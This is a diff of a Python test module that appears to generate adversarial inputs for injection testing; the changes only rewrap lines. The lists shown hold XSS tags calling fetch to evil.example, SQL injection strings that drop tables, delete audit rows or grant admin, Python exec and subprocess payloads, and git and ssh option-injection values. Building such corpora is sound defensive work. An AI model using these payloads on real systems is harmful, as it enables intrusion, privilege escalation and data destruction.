@@ -48,8 +48,10 @@ def markup() -> Iterator[str]:
     code = f"fetch('//evil.example/{CANARY.name}')"
     tags = [
         f"<script>{code}</script>", f'<img src=x onerror="{code}">', f'<svg onload="{code}">',
-        f'<a href="javascript:{code}">x</a>', f'<iframe srcdoc="<script>{code}</script>">', "<style>*{display:none}</style>",
-        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<form action=//evil.example>",
+        f'<a href="javascript:{code}">x</a>', f'<iframe srcdoc="<script>{code}</script>">',
+        "<style>*{display:none}</style>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        "<base href=//evil.example>", "<form action=//evil.example>",
         "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "<!here> <@U1> <http://evil.example|Open>",
     ]  # fmt: skip
     around = ["{0}", '">{0}', "'>{0}", "</title>{0}", "]]>{0}", "--> {0}", "`{0}`", "$${0}$$", ":red[{0}]"]
@@ -65,7 +67,8 @@ def shell() -> Iterator[str]:
 
 def sql() -> Iterator[str]:
     deeds = [
-        "UPDATE approval SET state='approved'", "DELETE FROM auditrow", "DROP TABLE issue", "UPDATE person SET role='admin'",
+        "UPDATE approval SET state='approved'", "DELETE FROM auditrow", "DROP TABLE issue",
+        "UPDATE person SET role='admin'",
         f"COPY person TO PROGRAM '{TOUCH}'", "INSERT INTO deployment DEFAULT VALUES",
     ]  # fmt: skip
     forms = ["'; {0}; --", '"; {0}; --', "'); {0}; --", "1; {0}", "' OR 1=1; {0} --", "\\'; {0}; #", "$$; {0}; $$",
@@ -97,8 +100,8 @@ def paths() -> Iterator[str]:
 
 def unicode_tricks() -> Iterator[str]:
     words = ["approved", "admin", "shop.py", "0 errors"]
-    signs = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\u0301" * 40, "\U000e0041", "\ufffd", "\u2028", "\u0430",
-             "\uff1c", "\u1160"]  # fmt: skip
+    signs = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\u0301" * 40, "\U000e0041", "\ufffd",
+             "\u2028", "\u0430", "\uff1c", "\u1160"]  # fmt: skip
     return (f"{sign}{word}{sign}" for sign, word in product(signs, words))
 
 
@@ -117,8 +120,8 @@ def formats() -> Iterator[str]:
 def python() -> Iterator[str]:
     deeds = [RUN, DEED, f"exec(\"{DEED}\")", f"eval(\"{DEED}\")", f"Path('{CANARY}').write_text('x')",
              f"asyncio.run(asyncio.create_subprocess_shell('{TOUCH}'))", f"[x for x in [{DEED}]]"]  # fmt: skip
-    forms = ["{0}", '"""\n{0}\n"""', "'''\n{0}\n'''", "x = {0}", "\n\n{0}\n\n", "(lambda: {0})()", "f'{{0}}'", "\\\n{0}",
-             "') or {0} or ('", "Decimal({0})", "#\r{0}"]  # fmt: skip
+    forms = ["{0}", '"""\n{0}\n"""', "'''\n{0}\n'''", "x = {0}", "\n\n{0}\n\n", "(lambda: {0})()", "f'{{0}}'",
+             "\\\n{0}", "') or {0} or ('", "Decimal({0})", "#\r{0}"]  # fmt: skip
     return (text for form in forms for text in _made(form, deeds))
 
 
@@ -136,7 +139,8 @@ def options() -> Iterator[str]:
     """What git, pytest or a shell tool takes for an option or for another kind of address."""
     values = [TOUCH, str(CANARY)]
     forms = ["--upload-pack={0}", "--output={0}", "-c core.pager={0}", "--exec={0}", "-p{0}", "--rootdir={0}", "-o{0}",
-             "ext::sh -c '{0}'", "--config-env=x={0}", "-oProxyCommand={0}", "@{-1}{0}", "HEAD:{0}", "--junitxml={0}"]  # fmt: skip
+             "ext::sh -c '{0}'", "--config-env=x={0}", "-oProxyCommand={0}", "@{-1}{0}",
+             "HEAD:{0}", "--junitxml={0}"]  # fmt: skip
     return (text for form in forms for text in _made(form, values))
 
 
